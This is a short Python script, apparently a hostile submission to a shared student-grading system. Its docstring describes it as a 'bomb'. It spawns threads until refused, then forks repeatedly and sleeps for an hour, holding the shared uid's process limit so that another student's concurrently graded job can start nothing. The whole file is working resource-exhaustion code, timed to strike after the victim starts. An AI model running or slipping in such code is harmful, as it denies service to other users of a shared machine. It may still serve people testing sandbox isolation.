"""A bomb that holds what it took: it starts threads until the kernel refuses (a thread
counts as a process for RLIMIT_NPROC, and is far quicker to start than a fork of a large
process), then forks as long as it can, and everything sleeps, so the student user's count
of processes stays at its limit. Graded at the same time as another student under the
same uid, that student's process could then start no thread and no process (the limit
counts per uid). It waits a moment first, so that the other student's process has started
(and taken its limit) when the bomb goes off."""

import os
import threading
import time

time.sleep(2)
threading.stack_size(1 << 16)
while True:
    try:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    except RuntimeError:
        break
for _ in range(5000):
    try:
        if os.fork() == 0:
            continue  # the child forks on too
    except OSError:
        break
time.sleep(3600)
